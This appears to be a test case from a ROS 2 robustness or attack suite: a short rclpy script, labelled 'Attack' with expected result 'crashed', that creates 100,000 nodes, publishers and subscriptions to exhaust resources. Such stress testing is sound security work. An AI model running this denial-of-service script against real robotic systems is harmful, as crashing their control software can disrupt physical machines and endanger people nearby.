"""Attack: create publishers, subscriptions and nodes without end.

Expected: crashed
"""

import rclpy
from geometry_msgs.msg import Twist
from rclpy.node import Node

rclpy.init()
node = Node("attacker")
publisher = node.create_publisher(Twist, "/turtle1/cmd_vel", 10)
twist = Twist()

kept = []
for n in range(100000):
    kept.append(Node(f"n{n}"))
    kept.append(node.create_publisher(Twist, f"/t{n}", 10))
    kept.append(node.create_subscription(Twist, f"/t{n}", print, 10))
